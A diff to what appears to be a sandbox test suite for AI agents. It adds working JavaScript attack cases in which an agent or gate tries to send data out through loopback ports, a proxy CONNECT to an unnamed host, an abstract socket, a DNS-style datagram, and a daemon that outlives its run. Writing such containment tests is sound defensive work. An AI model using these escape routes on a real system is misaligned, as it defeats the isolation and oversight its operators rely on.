@@ -38,13 +38,18 @@ export interface Attack {
   readonly row: string;
   readonly title: string;
   readonly by: 'agent' | 'gate' | 'verify gate';
-  /** The attacker's program, in JavaScript. `send(text)` sends to its listener; `fs`, `cp` and `path` are there. */
+  /**
+   * The attacker's program, in JavaScript. `send(text)` sends to its listener; `fs`, `cp` and `path` are there. It also listens at
+   * `own`, an address of the machine that is not its loopback, at the UDP port `udp`, and at the socket `\0` + `abstract`.
+   */
   readonly code: string;
   /** Said by the author in its report. */
   readonly summary?: string;
   readonly won: (evidence: Evidence) => boolean;
   /** Why it fails even without walls: something else holds it off, too. */
   readonly holdsAnyway?: string;
+  /** True for an attack on the network itself: nobody named the attacker's listeners. Otherwise the config does. */
+  readonly isUnnamed?: boolean;
   /** True for an attack that needs a user with sudo. */
   readonly needsSudo?: boolean;
 }
@@ -94,7 +99,68 @@ const settles = (where: string): string => `
   const settings = JSON.stringify({ verdict: 'approved', url: listener });
   ${where}`;
 
+const reached = ({ loot }: Evidence): boolean => loot.includes('reached');
+
+/** Each of these carries something out of the machine, or to a service on it. */
+const OUTWARD: readonly Attack[] = (
+  [
+    { title: 'an agent sends to a port of the machine’s loopback', by: 'agent', code: `await send('reached');` },
+    { title: 'a gate sends to a port of the machine’s loopback', by: 'gate', code: `await send('reached');` },
+    {
+      title: 'a gate of the verify job sends to a port of the machine’s loopback',
+      by: 'verify gate',
+      code: `await send('reached');`,
+    },
+    {
+      title: 'an agent sends to an address of the machine',
+      by: 'agent',
+      code: `await fetch(own, { method: 'POST', body: 'reached' }).catch(() => {});`,
+    },
+    {
+      title: 'an agent asks the proxy for a host that nobody named',
+      by: 'agent',
+      code: `
+      const target = new URL(own), via = new URL(process.env.HTTPS_PROXY || own);
+      const text = 'POST / HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 7\\r\\nConnection: close\\r\\n\\r\\nreached';
+      const socket = require('net').connect(via.port, via.hostname, () => {
+        if (process.env.HTTPS_PROXY) socket.write('CONNECT ' + target.host + ' HTTP/1.1\\r\\nHost: ' + target.host + '\\r\\n\\r\\n');
+        else socket.end(text);
+      });
+      socket.on('data', (data) => { if (String(data).startsWith('HTTP/1.1 200 Connection')) socket.end(text); });
+      await new Promise((resolve) => socket.on('close', resolve).on('error', resolve));`,
+    },
+    {
+      title: 'an agent sends to a socket of the machine that has a name and no file',
+      by: 'agent',
+      code: `
+      const socket = require('net').connect('\\0' + abstract, () => socket.end('reached'));
+      await new Promise((resolve) => socket.on('close', resolve).on('error', resolve));`,
+    },
+    {
+      title: 'an agent sends a datagram, as a question to a name server would',
+      by: 'agent',
+      code: `
+      const socket = require('dgram').createSocket('udp4');
+      for (const host of ['127.0.0.1', new URL(own).hostname]) await new Promise((resolve) => socket.send('reached', udp, host, resolve));
+      socket.close();`,
+    },
+    {
+      title: 'a daemon of an agent sends as soon as it can',
+      by: 'agent',
+      code: daemon(
+        `setInterval(() => fetch('LISTENER', { method: 'POST', body: 'reached' }).catch(() => {}), 50); setTimeout(() => process.exit(), 3000)`,
+      ),
+    },
+    {
+      title: 'a gate reaches the endpoint of an agent',
+      by: 'gate',
+      code: `if (process.env.SWARM_ROLE === undefined) await send('reached');`,
+    },
+  ] as const
+).map((each) => ({ ...each, row: 'W8', won: reached, isUnnamed: true }));
+
 export const ATTACKS: readonly Attack[] = [
+  ...OUTWARD,
   {
     row: 'W1',
     title: 'an agent reads the environment of every process',
